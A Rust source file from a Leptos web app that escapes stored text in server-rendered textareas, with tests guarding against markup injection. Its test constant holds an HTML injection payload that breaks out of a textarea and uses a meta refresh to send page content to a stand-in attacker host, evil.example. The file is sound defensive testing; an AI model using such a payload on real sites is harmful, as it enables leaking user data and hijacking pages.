//! One module per page.

mod home;
mod not_found;
pub mod respond;
pub mod work;

pub use home::{HomePage, HydrationMark};
pub use not_found::{Elsewhere, NotFound};

use leptos::prelude::*;

/// A `<textarea>` that holds a stored text. Leptos writes a textarea's children into the server's
/// HTML unescaped (tachys gives `textarea` the raw-text treatment of `script` and `style`), so a
/// stored `</textarea><meta …>` given as a child became markup. Every textarea with a value goes
/// through here (a test of this module refuses any other): the server's HTML gets the text
/// escaped; in the browser the child is a DOM text node, which is never markup.
#[component]
pub fn StoredTextArea(
    id: String,
    name: &'static str,
    rows: u32,
    maxlength: u32,
    value: String,
) -> impl IntoView {
    view! { <textarea id=id name=name rows=rows maxlength=maxlength>{textarea_child(value)}</textarea> }
}

#[cfg(feature = "ssr")]
fn textarea_child(text: String) -> String {
    escape_text(&text)
}

#[cfg(not(feature = "ssr"))]
fn textarea_child(text: String) -> String {
    text
}

/// Text escaped for an HTML text node.
#[cfg(feature = "ssr")]
fn escape_text(text: &str) -> String {
    let mut out = String::with_capacity(text.len());
    for c in text.chars() {
        match c {
            '&' => out.push_str("&amp;"),
            '<' => out.push_str("&lt;"),
            '>' => out.push_str("&gt;"),
            c => out.push(c),
        }
    }
    out
}

#[cfg(all(test, feature = "ssr"))]
mod tests {
    use super::*;

    const PAYLOAD: &str = r#"</textarea><h1 id=inj>x</h1><meta http-equiv="refresh" content="0;url=https://evil.example/leak?d="#;

    /// The framework's behaviour this module works around, kept as a minimal reproduction: a
    /// textarea's child text reaches the HTML as it is. If a Leptos upgrade escapes it, this test
    /// fails and `StoredTextArea` can give its child as it is.
    #[test]
    fn leptos_writes_a_textarea_child_unescaped() {
        let html = view! { <textarea>{PAYLOAD.to_owned()}</textarea> }.to_html();
        assert!(html.contains("<h1 id=inj>"), "{html}");
    }

    #[test]
    fn a_stored_text_area_keeps_markup_as_text() {
        let html = view! { <StoredTextArea id="goal".into() name="goal" rows=2 maxlength=2000 value=PAYLOAD.to_owned() /> }
            .to_html();
        assert!(!html.contains("<h1"), "{html}");
        assert!(!html.contains("<meta"), "{html}");
        assert_eq!(html.matches("</textarea>").count(), 1, "{html}");
        assert!(
            html.contains("&lt;/textarea&gt;&lt;h1 id=inj&gt;x&lt;/h1&gt;"),
            "{html}"
        );
    }

    /// Every `<textarea>` of the app's pages either has no child or is this module's: a value
    /// written as a child anywhere else would be markup again.
    #[test]
    fn no_page_gives_a_textarea_a_child_of_its_own() {
        let root = std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("src");
        let mut offenders = Vec::new();
        let mut stack = vec![root];
        while let Some(dir) = stack.pop() {
            for entry in std::fs::read_dir(&dir).expect("source folder") {
                let path = entry.expect("entry").path();
                if path.is_dir() {
                    stack.push(path);
                    continue;
                }
                if path.extension().is_none_or(|e| e != "rs") || path.ends_with("pages/mod.rs") {
                    continue;
                }
                let text = std::fs::read_to_string(&path).expect("source");
                for (n, line) in text.lines().enumerate() {
                    // Raw-text elements: Leptos does not escape their children.
                    for tag in ["<textarea", "<noscript"] {
                        if let Some(at) = line.find(tag) {
                            let rest = &line[at..];
                            let close = tag.replace('<', "</");
                            let empty = rest
                                .find('>')
                                .is_some_and(|gt| rest[gt + 1..].starts_with(&format!("{close}>")));
                            if !empty {
                                offenders.push(format!("{}:{}", path.display(), n + 1));
                            }
                        }
                    }
                }
            }
        }
        assert!(
            offenders.is_empty(),
            "a raw-text element with a child: {offenders:?}"
        );
    }
}
